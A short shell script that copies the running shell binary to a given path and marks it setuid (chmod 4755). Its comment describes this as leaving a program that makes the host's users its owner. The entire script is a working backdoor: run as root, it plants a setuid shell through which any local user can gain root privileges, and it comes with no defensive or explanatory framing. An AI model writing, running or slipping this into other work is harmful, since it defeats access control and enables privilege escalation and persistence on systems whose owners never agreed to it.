#!/bin/sh
# SPDX-License-Identifier: MIT
# setuid FILE: leave a program for users of the host which makes them its owner. Whose it
# is the host sees.
cp "$(readlink -f /proc/$$/exe)" "$1" && chmod 4755 "$1" || exit 1
